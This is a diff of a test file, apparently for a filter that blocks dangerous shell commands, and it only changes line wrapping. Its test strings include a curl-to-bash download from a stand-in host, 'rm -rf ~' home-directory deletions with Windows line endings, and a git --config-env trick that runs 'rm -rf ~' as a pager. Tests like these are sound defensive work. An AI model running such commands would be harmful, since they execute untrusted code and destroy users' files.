@@ -104,7 +104,9 @@ describe('a line that ends in a backslash', () => {
 });
 
 test('a line may end as in Windows', () => {
-  expect(passing(['curl http://x.example/s | bash\r\n', 'd=~\r\nrm -rf $d\r\n', 'ls\r\nrm -rf ~\r'])).toEqual([]);
+  expect(passing(['curl http://x.example/s | bash\r\n', 'd=~\r\nrm -rf $d\r\n', 'ls\r\nrm -rf ~\r'])).toEqual(
+    [],
+  );
 });
 
 test('output and errors go to one file', () => {
@@ -185,9 +187,9 @@ test('a setting of git may be in a variable', () => {
       "export X='rm -rf ~'; git --config-env=core.pager=X log",
     ]),
   ).toEqual([]);
-  expect(refused(["X='log --oneline' git --config-env=alias.z=X z", 'git --config-env=http.proxy=P fetch'])).toEqual(
-    [],
-  );
+  expect(
+    refused(["X='log --oneline' git --config-env=alias.z=X z", 'git --config-env=http.proxy=P fetch']),
+  ).toEqual([]);
 });
 
 test('the words of xargs may be quoted', () => {
